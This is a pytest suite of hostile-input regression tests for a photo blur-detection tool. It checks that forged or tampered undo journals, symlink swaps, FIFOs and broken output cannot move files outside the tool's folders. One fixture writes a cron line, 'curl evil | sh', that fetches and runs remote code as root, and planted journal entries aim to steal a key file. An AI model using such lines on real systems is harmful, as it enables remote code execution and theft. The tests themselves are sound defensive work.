"""A hostile user's cases, kept as regression tests: planted journals, FIFOs, full disks, closed and broken
output, thousands of workers, and images with nothing to judge.

Journals are the dangerous input: ``blur-detect undo`` carries out the moves a journal lists, so a journal written
by anybody but this user's own sort must move nothing. The property tests at the end write journals at random
(signed or not, with paths inside, outside and through symbolic links) and check that nothing outside the roots a
journal records ever changes.
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from fixtures import REPO_ROOT, blur, make_photo, needs_model, save_jpeg

from ensemble import journal_auth, sorting  # noqa: E402
from ensemble.sorting import SortingError  # noqa: E402


def run_cli(*args, stdin=None, timeout=120, **kw) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(REPO_ROOT))
    return subprocess.run([sys.executable, "-m", "ensemble", *map(str, args)], capture_output=True, text=True,
                          env=env, timeout=timeout, stdin=stdin if stdin is not None else subprocess.DEVNULL, **kw)


def run_raw(args: list[str], stdout) -> subprocess.CompletedProcess:
    """The command with its standard output sent to ``stdout`` (a file or a pipe end), stderr captured."""
    return subprocess.run([sys.executable, "-m", "ensemble", *args], stdout=stdout, stderr=subprocess.PIPE,
                          text=True, timeout=120, stdin=subprocess.DEVNULL,
                          env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)))


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tree(root: Path) -> dict:
    """Every path below ``root`` -> sha256 of a file, 'dir', or 'link -> target'."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            rel = p.relative_to(root).as_posix()
            if p.is_symlink():
                out[rel] = f"link -> {os.readlink(p)}"
            elif p.is_dir():
                out[rel] = "dir"
            else:
                out[rel] = sha(p)
    return out


def move_entry(src: Path, dst: Path) -> dict:
    return {"op": "move", "src": str(src), "dst": str(dst), "sha256": sha(dst), "size": dst.stat().st_size,
            "time": "2026-01-01T00:00:00+00:00"}


@pytest.fixture
def world(tmp_path):
    """A photo folder with its _blurry folder, and outside it a 'system' folder and a 'home' with a secret."""
    photos = tmp_path / "photos"
    (photos / "_blurry").mkdir(parents=True)
    (photos / "a.jpg").write_bytes(b"photo a")
    system = tmp_path / "etc"
    (system / "cron.d").mkdir(parents=True)
    (system / "empty-dir").mkdir()
    home = tmp_path / "home"
    home.mkdir()
    (home / "secret.txt").write_bytes(b"private key material")
    return photos, system, home


def sorted_journal(photos: Path, names=("a.jpg",)) -> str:
    """A real sort of ``names`` into photos/_blurry, signed with this user's key; returns the journal path."""
    journal = sorting.new_journal_path(photos / "_blurry")
    plan = sorting.plan_moves([photos / n for n in names], photos / "_blurry", base_of=lambda p: photos)
    assert all(o.ok for o in sorting.apply_moves(plan, journal))
    return journal


# --------------------------------------------------------------------------------------------------------------
# Planted journals: refused whole, before anything moves


def test_planted_journal_cannot_plant_steal_or_remove_outside_the_tree(world):
    photos, system, home = world
    payload = photos / "_blurry" / "payload.jpg"
    payload.write_bytes(b"* * * * * root curl evil | sh\n")
    journal = photos / "_blurry" / ".blur-detect-journal-20260101-000000-deadbeef.jsonl"
    entries = [move_entry(system / "cron.d" / "probe", payload),               # plant a file in 'etc'
               move_entry(photos / "stolen.txt", home / "secret.txt"),          # pull a private file out of 'home'
               {"op": "mkdir", "path": str(system / "empty-dir")}]              # remove a folder outside
    journal.write_text("".join(json.dumps(e) + "\n" for e in entries))
    before = tree(photos.parent)

    proc = run_cli("undo", journal)

    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert proc.stderr.count("\n") == 1 and "refused, nothing was moved" in proc.stderr
    assert "not signed" in proc.stderr and "--foreign" in proc.stderr
    assert tree(photos.parent) == before


def test_signed_journal_edited_by_hand_is_refused(world):
    photos, system, home = world
    journal = Path(sorted_journal(photos))
    lines = [json.loads(x) for x in journal.read_text().splitlines()]
    for line in lines:
        if line["op"] == "move":
            line["src"] = str(system / "cron.d" / "a.jpg")  # the mac stays: it no longer matches
    journal.write_text("".join(json.dumps(x) + "\n" for x in lines))
    with pytest.raises(SortingError, match="does not carry this user's signature"):
        sorting.undo(journal)
    assert (photos / "_blurry" / "a.jpg").exists() and not (system / "cron.d" / "a.jpg").exists()


def test_signed_lines_appended_from_another_journal_are_refused(world):
    photos, system, home = world
    (photos / "b.jpg").write_bytes(b"photo b")
    first, second = Path(sorted_journal(photos)), Path(sorted_journal(photos, ("b.jpg",)))
    spliced = first.read_text() + "".join(x + "\n" for x in second.read_text().splitlines()[1:])
    first.write_text(spliced)
    with pytest.raises(SortingError, match="line 3 does not carry"):
        sorting.undo(first)


def test_a_folder_swapped_for_a_link_since_the_sort_is_refused(world, tmp_path):
    photos, system, home = world
    sub = photos / "sub"
    sub.mkdir()
    (sub / "c.jpg").write_bytes(b"photo c")
    journal = sorting.new_journal_path(photos / "_blurry")
    plan = sorting.plan_moves([sub / "c.jpg"], photos / "_blurry", base_of=lambda p: photos)
    list(sorting.apply_moves(plan, journal))
    sub.rmdir()
    os.symlink(system / "cron.d", sub)  # undo would now write into 'etc'

    proc = run_cli("undo", journal)

    assert proc.returncode == 1 and "outside its folders" in proc.stderr and "Traceback" not in proc.stderr
    assert list((system / "cron.d").iterdir()) == [] and (photos / "_blurry" / "sub" / "c.jpg").exists()


def test_journal_header_records_the_resolved_roots(world):
    photos, _, _ = world
    lines = [json.loads(x) for x in Path(sorted_journal(photos)).read_text().splitlines()]
    assert lines[0]["op"] == "begin" and lines[0]["roots"] == [str(photos.resolve())]
    assert all(isinstance(x["mac"], str) and len(x["mac"]) == 64 for x in lines)


def test_dry_run_shows_roots_and_plan_and_moves_nothing(world):
    photos, _, _ = world
    journal = sorted_journal(photos)
    before = tree(photos)
    proc = run_cli("undo", "--dry-run", journal)
    assert proc.returncode == 0, proc.stderr
    assert "signed by this user" in proc.stdout and f"folders it may touch: {photos.resolve()}" in proc.stdout
    assert f"would restore {photos / '_blurry' / 'a.jpg'} -> {photos / 'a.jpg'}" in proc.stdout
    assert tree(photos) == before


def test_foreign_journal_needs_the_override_and_a_yes(world):
    photos, _, _ = world
    moved = photos / "_blurry" / "a.jpg"
    (photos / "a.jpg").rename(moved)
    journal = photos / "_blurry" / ".blur-detect-journal-20250101-000000-00000000.jsonl"
    journal.write_text(json.dumps(move_entry(photos / "a.jpg", moved)) + "\n")  # an older version's journal

    refused = run_cli("undo", journal)
    assert refused.returncode == 1 and "older blur-detect" in refused.stderr and moved.exists()

    shown = run_cli("undo", "--dry-run", journal)
    assert shown.returncode == 1 and "NOT signed" in shown.stdout and "none recorded" in shown.stdout
    assert f"would restore {moved} -> {photos / 'a.jpg'}" in shown.stdout and moved.exists()

    unconfirmed = run_cli("undo", "--foreign", journal)  # no terminal to ask on
    assert unconfirmed.returncode == 1 and "not confirmed" in unconfirmed.stderr and moved.exists()
    assert f"would restore {moved}" in unconfirmed.stdout  # the plan was shown first

    done = run_cli("undo", "--foreign", "--yes", journal)
    assert done.returncode == 0, done.stderr
    assert (photos / "a.jpg").read_bytes() == b"photo a" and not moved.exists()


def test_foreign_journal_with_roots_is_still_confined(world):
    photos, system, _ = world
    payload = photos / "_blurry" / "payload.jpg"
    payload.write_bytes(b"x")
    begin = journal_auth.header([str(photos)], "0" * 32, "2026-01-01T00:00:00+00:00")
    journal = photos / "_blurry" / ".blur-detect-journal-20260101-000000-11111111.jsonl"
    journal.write_text(json.dumps(begin) + "\n" + json.dumps(move_entry(system / "x", payload)) + "\n")
    proc = run_cli("undo", "--foreign", "--yes", journal)
    assert proc.returncode == 1 and "outside its folders" in proc.stderr
    assert payload.exists() and not (system / "x").exists()


def test_several_journals_and_a_folder_are_undone_newest_first(world):
    photos, _, _ = world
    (photos / "b.jpg").write_bytes(b"photo b")
    first = sorted_journal(photos)
    second = sorted_journal(photos, ("b.jpg",))
    os.utime(first, ns=(1, 1))  # same second in the name: the older write goes last
    proc = run_cli("undo", photos / "_blurry")
    assert proc.returncode == 0, proc.stderr
    order = [line.split(":")[0] for line in proc.stdout.splitlines() if "file(s) restored" in line]
    assert order == [second, first]
    assert (photos / "a.jpg").exists() and (photos / "b.jpg").exists()
    proc = run_cli("undo", photos / "_blurry")
    assert proc.returncode == 1 and "no journal to undo" in proc.stderr


def test_key_is_private_and_a_readable_key_is_refused(world):
    photos, _, _ = world
    journal = sorted_journal(photos)
    key = journal_auth.key_path()
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    try:
        key.chmod(0o644)
        with pytest.raises(SortingError, match="not private to this user"):
            sorting.undo(journal)
    finally:
        key.chmod(0o600)
    assert all(o.ok for o in sorting.undo(journal))


# --------------------------------------------------------------------------------------------------------------
# FIFOs: refused without blocking


def test_a_fifo_given_as_a_journal_is_refused_at_once(tmp_path):
    fifo = tmp_path / ".blur-detect-journal-fifo.jsonl"
    os.mkfifo(fifo)
    proc = run_cli("undo", fifo, timeout=60)  # a hang fails here as a timeout
    assert proc.returncode == 1 and "not a regular file" in proc.stderr and "Traceback" not in proc.stderr


def test_a_fifo_planted_in_the_review_state_does_not_jam_apply_and_undo(tmp_path):
    pytest.importorskip("fastapi")
    from ensemble.review.paths import STATE_FILE

    from test_review import review

    root = tmp_path / "root"
    (root / "_blurry").mkdir(parents=True)
    fifo = root / "_blurry" / ".blur-detect-journal-fifo.jsonl"
    os.mkfifo(fifo)
    (root / STATE_FILE).write_text(json.dumps({"journals": ["_blurry/" + fifo.name]}))
    with review(root) as (service, client):
        r = client.post("/api/review/undo")
        assert r.status_code == 200 and "not a regular file" in r.json()["error"], r.text
        assert r.json()["settled"]
        assert client.post("/api/review/undo").status_code == 409  # nothing left to undo, not jammed


# --------------------------------------------------------------------------------------------------------------
# Output that goes nowhere: one line (or quiet for a reader that left), never success


@pytest.fixture(scope="module")
def two_photos(tmp_path_factory):
    folder = tmp_path_factory.mktemp("two")
    sharp = make_photo(7, (240, 320))
    save_jpeg(folder / "sharp.jpg", sharp)
    save_jpeg(folder / "blurred.jpg", blur(sharp, "gaussian", 4.0))
    return folder


@needs_model
@pytest.mark.parametrize("fmt", ["table", "csv", "json", "jsonl"])
@pytest.mark.parametrize("where", ["option", "redirect"])
def test_a_full_disk_is_one_line_in_every_format(two_photos, fmt, where):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full on this system")
    if where == "option":
        proc = run_cli("scan", two_photos, "--format", fmt, "-o", "/dev/full")
    else:
        with open("/dev/full", "w") as full:
            proc = run_raw(["scan", str(two_photos), "--format", fmt], stdout=full)
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        f"error: cannot write {'/dev/full' if where == 'option' else 'the report to standard output'}: "
        "No space left on device"], proc.stderr


@needs_model
@pytest.mark.parametrize("command", [["scan", "{folder}"], ["undo", "{folder}"]])
def test_closed_standard_output_is_an_error_not_silence(two_photos, command):
    args = " ".join(a.format(folder=two_photos) for a in command)
    proc = subprocess.run(f"{sys.executable} -m ensemble {args} >&-", shell=True, stderr=subprocess.PIPE,
                          text=True, timeout=120, env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)))
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[-1].startswith("error: standard output is closed"), proc.stderr


@needs_model
@pytest.mark.parametrize("fmt", ["table", "csv", "json", "jsonl"])
def test_a_reader_that_left_ends_the_scan_quietly_and_not_with_success(two_photos, fmt):
    read, write = os.pipe()
    os.close(read)  # the reader is gone before anything is written
    try:
        proc = run_raw(["scan", str(two_photos), "--format", fmt], stdout=write)
    finally:
        os.close(write)
    assert proc.returncode == 1 and proc.stderr == "", proc.stderr


@needs_model
def test_jsonl_into_head_exits_1_without_a_traceback(two_photos):
    proc = subprocess.run(f"{sys.executable} -m ensemble scan {two_photos} --format jsonl -j 1 | head -c 1; "
                          "exit ${PIPESTATUS[0]}", shell=True, executable="/bin/bash", capture_output=True,
                          text=True, timeout=120, env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)))
    assert proc.returncode == 1 and "Traceback" not in proc.stderr and "Exception" not in proc.stderr


@needs_model
def test_absurd_worker_counts_are_capped_and_said(two_photos):
    proc = run_cli("scan", two_photos, "--workers", "10000", "--format", "json")
    assert proc.returncode == 0, proc.stderr
    cap = 4 * len(os.sched_getaffinity(0))
    assert f"note: --workers 10000 is more than {cap} (4 per core): using {cap}" in proc.stderr
    assert len(json.loads(proc.stdout)) == 2


# --------------------------------------------------------------------------------------------------------------
# Nothing to judge: 'flat', on every surface, never moved


@pytest.fixture(scope="module")
def flat_folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("flat")
    Image.new("L", (1, 1), 128).save(folder / "dot.png")
    Image.new("L", (1, 5000), 30).save(folder / "line.png")
    Image.new("RGB", (640, 480), (255, 255, 255)).save(folder / "blank.jpg", quality=90)
    noise = np.random.default_rng(0).normal(120, 1.0, (480, 640)).clip(0, 255).astype(np.uint8)
    Image.fromarray(noise).save(folder / "uniform.png")  # sensor noise on a grey card: no detail
    sharp = make_photo(3, (240, 320))
    save_jpeg(folder / "photo.jpg", blur(sharp, "gaussian", 5.0))
    return folder


FLAT = ["blank.jpg", "dot.png", "line.png", "uniform.png"]


@needs_model
def test_flat_images_get_their_own_label_and_are_never_moved(flat_folder, tmp_path):
    work = tmp_path / "work"
    shutil.copytree(flat_folder, work)
    proc = run_cli("scan", work, "--format", "json", "-t", "0", "--move-blurry", tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    records = {Path(r["path"]).name: r for r in json.loads(proc.stdout)}
    assert sorted(n for n, r in records.items() if r["label"] == "flat") == FLAT
    assert all(records[n]["blur_probability"] is None and records[n]["error"] is None for n in FLAT)
    assert records["photo.jpg"]["label"] == "blurry"  # threshold 0: everything judged is blurry
    assert sorted(p.name for p in (tmp_path / "out").glob("*.*") if not p.name.startswith(".")) == ["photo.jpg"]
    assert sorted(p.name for p in work.iterdir()) == FLAT

    table = run_cli("scan", work)
    assert "4 flat (nothing to judge)" in table.stdout and "Traceback" not in table.stderr


def test_flat_is_decided_by_one_rule_shared_with_the_cameras():
    from ensemble.cameras.monitor import frame_problem
    from ensemble.focus import no_detail

    grey = np.full((480, 640), 200, np.uint8)
    assert "uniform" in no_detail(grey) and "uniform" in frame_problem(grey)
    assert "too small" in no_detail(np.zeros((1, 5000), np.uint8) + 90)
    textured = (np.indices((480, 640)).sum(axis=0) % 32 * 8).astype(np.uint8)
    assert no_detail(textured) is None and frame_problem(textured) is None


@needs_model
def test_flat_photos_are_left_alone_by_the_review_page(flat_folder, tmp_path):
    pytest.importorskip("fastapi")
    from ensemble.detector import BlurDetector

    from test_review import review

    root = tmp_path / "root"
    shutil.copytree(flat_folder, root)
    with review(root, BlurDetector.load(threads=1)) as (service, client):
        assert service.wait_idle(120)
        items = {i["path"]: i for i in client.get("/api/review/results").json()["items"]}
        assert sorted(k for k, i in items.items() if i["flat"]) == FLAT
        plan = client.get("/api/review/plan", params={"threshold": 0.0}).json()
        assert [i["path"] for i in plan["items"]] == ["photo.jpg"]
        applied = client.post("/api/review/apply", json={"threshold": 0.0, "paths": FLAT + ["photo.jpg"]})
        assert [d["from"] for d in applied.json()["done"]] == ["photo.jpg"], applied.text
    assert sorted(p.name for p in root.iterdir() if not p.name.startswith((".", "_"))) == FLAT


# --------------------------------------------------------------------------------------------------------------
# Property: no journal, however written, moves or creates anything outside its roots

_NAMES = st.sampled_from(["a.jpg", "b.jpg", "sub", "sub/c.jpg", "link", "link/x.jpg", "../outside/o.jpg",
                          "_blurry/a.jpg", "_blurry/sub/c.jpg", "_blurry/new", "nope/deep.jpg"])
_PLACES = st.sampled_from(["photos", "outside", "photos/sub", "photos/_blurry"])


def _entry(draw_op, src, dst, base: Path) -> dict:
    if draw_op == "mkdir":
        return {"op": "mkdir", "path": str(base / src)}
    target = base / dst
    digest, size = ("0" * 64, 0)
    if target.is_file():
        digest, size = sha(target), target.stat().st_size
    return {"op": draw_op, "src": str(base / src), "dst": str(target), "sha256": digest, "size": size,
            "time": "2026-01-01T00:00:00+00:00"}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(entries=st.lists(st.tuples(st.sampled_from(["move", "copy", "mkdir"]), _NAMES, _NAMES, _PLACES, _PLACES),
                        max_size=6),
       roots=st.lists(_PLACES, min_size=1, max_size=2), signed=st.booleans(), header=st.booleans(),
       foreign=st.booleans())
def test_property_no_journal_touches_anything_outside_its_roots(entries, roots, signed, header, foreign):
    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp)
        for rel, data in (("photos/a.jpg", b"a"), ("photos/sub/c.jpg", b"c"), ("photos/_blurry/a.jpg", b"A"),
                          ("photos/_blurry/sub/c.jpg", b"C"), ("outside/o.jpg", b"o"), ("outside/secret", b"s")):
            (base / rel).parent.mkdir(parents=True, exist_ok=True)
            (base / rel).write_bytes(data)
        (base / "outside" / "empty").mkdir()
        os.symlink(base / "outside", base / "photos" / "link")  # a link inside the tree that leads out of it
        lines = [_entry(op, src, dst, base / place) for op, src, dst, place, _ in entries]
        root_paths = [str((base / r).resolve()) for r in roots]
        if header:
            lines.insert(0, journal_auth.header(root_paths, "1" * 32, "2026-01-01T00:00:00+00:00"))
        if signed:
            signer = journal_auth.Signer(journal_auth.load_key(create=True))
            lines = [signer.sign(x) for x in lines]
        journal = base / "photos" / "_blurry" / ".blur-detect-journal-20260101-000000-22222222.jsonl"
        journal.write_text("".join(json.dumps(x) + "\n" for x in lines))
        before = tree(base)
        try:
            list(sorting.undo(journal, foreign=foreign and header))  # the override never waives the roots
        except SortingError:
            pass
        after = tree(base)
        changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
        changed.discard(f"photos/_blurry/{journal.name}")
        changed.discard(f"photos/_blurry/{journal.name}.undone")
        allowed = [Path(r) for r in root_paths] if (header and (signed or foreign)) else []
        for rel in changed:
            where = Path(journal_auth.located(str(base / rel)))
            assert any(where == r or r in where.parents for r in allowed), (rel, lines)
